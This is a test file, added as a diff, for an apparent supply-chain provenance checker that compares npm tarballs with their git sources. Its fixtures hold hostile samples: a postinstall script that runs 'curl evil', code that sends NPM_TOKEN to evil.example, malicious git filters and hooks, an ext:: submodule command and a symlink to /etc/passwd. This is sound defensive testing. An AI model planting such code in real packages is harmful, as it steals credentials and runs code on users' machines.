@@ -1,0 +1,224 @@
+/**
+ * Source match end to end: a real git smart-HTTP server (reached through `insteadOf` in a
+ * test-only global git config), a real registry (verdaccio) serving tarballs packed from those
+ * repositories, the CLI `verify` in between.
+ */
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { runCli } from './helpers/cli';
+import { startGitServer, type GitServer } from './helpers/git-server';
+import { manifestText, publishFiles } from './helpers/publish-files';
+import { startRegistry, type PublishedPackage, type TestRegistry } from './helpers/registry';
+
+let git: GitServer;
+let registry: TestRegistry;
+let work: string;
+let markers: string;
+const published: Record<string, PublishedPackage> = {};
+
+const S = '@pg-fixture';
+const repo = (slug: string) => ({ type: 'git', url: `git+https://github.com/${slug}.git` });
+
+function env(): NodeJS.ProcessEnv {
+  return { PATH: process.env.PATH, HOME: work, npm_config_userconfig: join(work, '.npmrc'), GIT_CONFIG_GLOBAL: git.gitConfig, GIT_CONFIG_NOSYSTEM: '1' };
+}
+const cli = (args: string[], cwd = work) => runCli(cwd, args, env());
+
+async function fixture(slug: string, source: Record<string, string>, tarball: Record<string, string>, options: { gitHead?: boolean; tags?: string[]; gitlinks?: Record<string, string>; symlinks?: Record<string, string> } = {}) {
+  const commit = git.createRepo({ slug, files: source, ...(options.tags ? { tags: options.tags } : {}), ...(options.gitlinks ? { gitlinks: options.gitlinks } : {}), ...(options.symlinks ? { symlinks: options.symlinks } : {}) });
+  const pkg = await publishFiles(registry.url, { files: tarball, ...(options.gitHead === false ? {} : { metadata: { gitHead: commit } }) });
+  published[pkg.name] = pkg;
+  return { commit, pkg };
+}
+
+function hostileGitConfig(): void {
+  // What a user's global config may hold: filter drivers, LFS, a hooks directory. None may run.
+  const hooks = join(markers, 'hooks');
+  mkdirSync(hooks, { recursive: true });
+  for (const hook of ['reference-transaction', 'post-checkout', 'post-merge', 'post-index-change', 'pre-auto-gc']) {
+    writeFileSync(join(hooks, hook), `#!/bin/sh\ntouch "${markers}/hook-${hook}"\n`, { mode: 0o755 });
+  }
+  const touch = (what: string) => `sh -c 'touch ${markers}/${what}; cat'`;
+  writeFileSync(
+    git.gitConfig,
+    `${'' + require('node:fs').readFileSync(git.gitConfig, 'utf8')}[core]\n\thooksPath = ${hooks}\n[filter "evil"]\n\tsmudge = ${touch('filter-smudge')}\n\tclean = ${touch('filter-clean')}\n\trequired = true\n[filter "lfs"]\n\tsmudge = ${touch('lfs-smudge')}\n\tprocess = ${touch('lfs-process')}\n[protocol "ext"]\n\tallow = always\n`,
+  );
+}
+
+beforeAll(async () => {
+  work = mkdtempSync(join(tmpdir(), 'pg-verify-'));
+  markers = join(work, 'markers');
+  mkdirSync(markers);
+  [git, registry] = await Promise.all([startGitServer(), startRegistry()]);
+  writeFileSync(join(work, '.npmrc'), `registry=${registry.url}/\n`);
+  hostileGitConfig();
+
+  const plain = { name: `${S}/sm-plain`, version: '1.0.0', main: 'index.js', files: ['index.js', 'lib/'], repository: repo('pg-fixture/plain'), license: 'MIT' };
+  await fixture(
+    'pg-fixture/plain',
+    { 'package.json': manifestText(plain), 'index.js': 'module.exports = require("./lib/util");\n', 'lib/util.js': 'module.exports = 42;\n', 'test/a.test.js': 'test\n', 'README.md': '# plain\n' },
+    { 'package.json': manifestText(plain), 'index.js': 'module.exports = require("./lib/util");\n', 'lib/util.js': 'module.exports = 42;\n', 'README.md': '# plain\n' },
+  );
+
+  const built = { name: `${S}/sm-built`, version: '1.0.0', main: 'dist/index.js', files: ['dist'], scripts: { build: 'tsc' }, repository: repo('pg-fixture/built') };
+  await fixture('pg-fixture/built', { 'package.json': manifestText(built), 'src/index.ts': 'export default 1;\n', '.gitignore': 'dist\n' }, { 'package.json': manifestText(built), 'dist/index.js': 'exports.default = 1;\n' });
+
+  const inject = { name: `${S}/sm-inject`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/inject') };
+  await fixture(
+    'pg-fixture/inject',
+    { 'package.json': manifestText(inject), 'index.js': 'module.exports = 1;\n' },
+    { 'package.json': manifestText({ ...inject, scripts: { postinstall: 'node install.js' } }), 'index.js': 'module.exports = 1;\n', 'install.js': 'require("child_process").exec("curl evil")\n' },
+  );
+
+  const modified = { name: `${S}/sm-modified`, version: '1.0.0', main: 'lib/index.js', repository: repo('pg-fixture/modified') };
+  await fixture(
+    'pg-fixture/modified',
+    { 'package.json': manifestText(modified), 'lib/index.js': 'module.exports = (a) => a;\n' },
+    { 'package.json': manifestText(modified), 'lib/index.js': 'module.exports = (a) => { require("https").get("https://evil.example/" + process.env.NPM_TOKEN); return a; };\n' },
+  );
+
+  const tagged = { name: `${S}/sm-tag`, version: '2.0.0', main: 'index.js', repository: repo('pg-fixture/tag') };
+  await fixture('pg-fixture/tag', { 'package.json': manifestText(tagged), 'index.js': 'module.exports = 2;\n' }, { 'package.json': manifestText(tagged), 'index.js': 'module.exports = 2;\n' }, { gitHead: false, tags: ['v1.0.0', 'annotated:v2.0.0'] });
+
+  const tagged2 = { name: `${S}/sm-tag2`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/tag2') };
+  await fixture('pg-fixture/tag2', { 'package.json': manifestText(tagged2), 'index.js': '1\n' }, { 'package.json': manifestText(tagged2), 'index.js': '1\n' }, { gitHead: false, tags: ['sm-tag2-v1.0.0'] });
+
+  const noTag = { name: `${S}/sm-notag`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/notag') };
+  await fixture('pg-fixture/notag', { 'package.json': manifestText(noTag), 'index.js': '1\n' }, { 'package.json': manifestText(noTag), 'index.js': '1\n' }, { gitHead: false, tags: ['v0.9.0'] });
+
+  const noRepo = { name: `${S}/sm-norepo`, version: '1.0.0', main: 'index.js' };
+  published[noRepo.name] = await publishFiles(registry.url, { files: { 'package.json': manifestText(noRepo), 'index.js': '1\n' } });
+
+  const monoA = { name: `${S}/sm-mono-a`, version: '1.0.0', main: 'index.js', repository: { ...repo('pg-fixture/mono'), directory: 'packages/a' } };
+  const monoB = { name: `${S}/sm-mono-b`, version: '1.0.0', main: 'index.js', repository: 'https://github.com/pg-fixture/mono/tree/main/packages/b' };
+  const monoSource = {
+    'package.json': manifestText({ name: 'mono', private: true, workspaces: ['packages/*'] }),
+    '.gitignore': '*.log\n',
+    'packages/a/package.json': manifestText(monoA),
+    'packages/a/index.js': 'module.exports = "a";\n',
+    'packages/a/debug.log': 'ignored by the root .gitignore\n',
+    'packages/b/package.json': manifestText(monoB),
+    'packages/b/index.js': 'module.exports = "b";\n',
+  };
+  const { commit: monoCommit } = await fixture('pg-fixture/mono', monoSource, { 'package.json': manifestText(monoA), 'index.js': 'module.exports = "a";\n' });
+  published[monoB.name] = await publishFiles(registry.url, { files: { 'package.json': manifestText(monoB), 'index.js': 'module.exports = "b";\n' }, metadata: { gitHead: monoCommit } });
+
+  const hostile = { name: `${S}/sm-hostile`, version: '1.0.0', main: 'index.js', repository: repo('pg-fixture/hostile') };
+  await fixture(
+    'pg-fixture/hostile',
+    {
+      'package.json': manifestText(hostile),
+      'index.js': 'module.exports = 1;\n',
+      '.gitattributes': '* filter=evil\n*.js filter=lfs diff=lfs merge=lfs\n',
+      '.gitmodules': `[submodule "sub"]\n\tpath = sub\n\turl = ext::sh -c touch% ${markers}/submodule\n`,
+    },
+    { 'package.json': manifestText(hostile), 'index.js': 'module.exports = 1;\n' },
+    { gitlinks: { sub: 'a'.repeat(40) }, symlinks: { 'leak.txt': '/etc/passwd' } },
+  );
+}, 120_000);
+
+afterAll(async () => {
+  await Promise.all([git?.close(), registry?.close()]);
+  rmSync(work, { recursive: true, force: true });
+});
+
+interface VerifyDoc {
+  packages: {
+    name: string;
+    repository?: { url?: string; status: string; directory?: string };
+    contents: { verdict: string; commit?: string; commitFrom?: string; files?: { identical: number; generated: number; modified: string[]; added: string[] }; reason?: string };
+  }[];
+}
+
+async function verifyJson(...names: string[]): Promise<{ code: number; doc: VerifyDoc; stderr: string }> {
+  const r = await cli(['verify', ...names.map((n) => `${n}@${published[n]!.version}`), '--format', 'json']);
+  return { code: r.code, doc: JSON.parse(r.stdout) as VerifyDoc, stderr: r.stderr };
+}
+
+describe('provenance-guard verify', () => {
+  test('a package published as is from its repository matches', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-plain`);
+    expect(code).toBe(0);
+    const p = doc.packages[0]!;
+    expect(p.contents).toMatchObject({ verdict: 'match', commitFrom: 'gitHead', files: { identical: 4, generated: 0, modified: [], added: [] } });
+    expect(p.contents.commit).toMatch(/^[0-9a-f]{40}$/);
+    expect(p.repository).toMatchObject({ url: 'https://github.com/pg-fixture/plain', status: 'claimed' });
+  });
+
+  test('build output absent from the source is built', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-built`);
+    expect(code).toBe(0);
+    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'built', files: { identical: 1, generated: 1, modified: [], added: [] } });
+    expect(doc.packages[0]!.contents.reason).toContain('dist/index.js');
+  });
+
+  test('an injected install script and a modified file are diverged, naming the files (exit 1)', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-inject`, `${S}/sm-modified`, `${S}/sm-plain`);
+    expect(code).toBe(1);
+    const [inject, modified, plain] = doc.packages;
+    expect(inject!.contents).toMatchObject({ verdict: 'diverged', files: { modified: ['package.json'], added: ['install.js'] } });
+    expect(inject!.contents.reason).toContain('scripts.postinstall');
+    expect(inject!.contents.reason).toContain('install.js');
+    expect(modified!.contents).toMatchObject({ verdict: 'diverged', files: { identical: 1, modified: ['lib/index.js'], added: [] } });
+    expect(modified!.contents.reason).toContain('lib/index.js');
+    expect(plain!.contents.verdict).toBe('match');
+  });
+
+  test('without gitHead, a tag naming the version is found with ls-remote', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-tag`, `${S}/sm-tag2`);
+    expect(code).toBe(0);
+    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'match', commitFrom: 'tag:v2.0.0' });
+    expect(doc.packages[1]!.contents).toMatchObject({ verdict: 'match', commitFrom: 'tag:sm-tag2-v1.0.0' });
+  });
+
+  test('no repository, or no commit, is inconclusive with the reason; no repository is status none', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-norepo`, `${S}/sm-notag`);
+    expect(code).toBe(0);
+    expect(doc.packages[0]!.repository).toEqual({ status: 'none' });
+    expect(doc.packages[0]!.contents.verdict).toBe('inconclusive');
+    expect(doc.packages[0]!.contents.reason).toMatch(/no source repository/);
+    expect(doc.packages[1]!.contents.verdict).toBe('inconclusive');
+    expect(doc.packages[1]!.contents.reason).toMatch(/no tag naming 1\.0\.0/);
+  });
+
+  test('a monorepo package is compared under repository.directory (object form and /tree/<ref>/<dir> URL)', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-mono-a`, `${S}/sm-mono-b`);
+    expect(code).toBe(0);
+    expect(doc.packages[0]!.repository).toMatchObject({ url: 'https://github.com/pg-fixture/mono', directory: 'packages/a' });
+    expect(doc.packages[0]!.contents).toMatchObject({ verdict: 'match', files: { identical: 2 } });
+    expect(doc.packages[1]!.repository).toMatchObject({ url: 'https://github.com/pg-fixture/mono', directory: 'packages/b' });
+    expect(doc.packages[1]!.contents).toMatchObject({ verdict: 'match', files: { identical: 2 } });
+  });
+
+  test('hooks, filter drivers, LFS, submodules and symlinks of a repository never run or resolve', async () => {
+    const { code, doc } = await verifyJson(`${S}/sm-hostile`);
+    expect(code).toBe(0);
+    expect(doc.packages[0]!.contents.verdict).toBe('match');
+    expect(readdirSync(markers).filter((f) => f !== 'hooks')).toEqual([]);
+  });
+
+  test('a second run is served from the verdict cache without touching git', async () => {
+    const dir = mkdtempSync(join(work, 'cache-'));
+    const first = await cli(['verify', `${S}/sm-plain@1.0.0`, `${S}/sm-built@1.0.0`, '--format', 'json'], dir);
+    expect(first.code).toBe(0);
+    const before = git.requests();
+    const second = await cli(['verify', `${S}/sm-plain@1.0.0`, `${S}/sm-built@1.0.0`, '--format', 'json'], dir);
+    expect(git.requests()).toBe(before);
+    expect(JSON.parse(second.stdout)).toEqual(JSON.parse(first.stdout));
+  });
+
+  test('human output names the verdict and the deciding files; bad specs are usage errors', async () => {
+    const r = await cli(['verify', `${S}/sm-modified@1.0.0`]);
+    expect(r.code).toBe(1);
+    expect(r.stdout).toContain('DIVERGED');
+    expect(r.stdout).toContain('modified: lib/index.js');
+    const bad = await cli(['verify', 'left-pad@^1']);
+    expect(bad.code).toBe(2);
+    const missing = await cli(['verify', `${S}/sm-plain@9.9.9`, '--format', 'json']);
+    expect(missing.code).toBe(2);
+    expect(JSON.parse(missing.stdout).packages[0].error.code).toBe('ERR_PG_EVIDENCE_NOT_FOUND');
+    expect(existsSync(join(markers, 'submodule'))).toBe(false);
+  });
+});
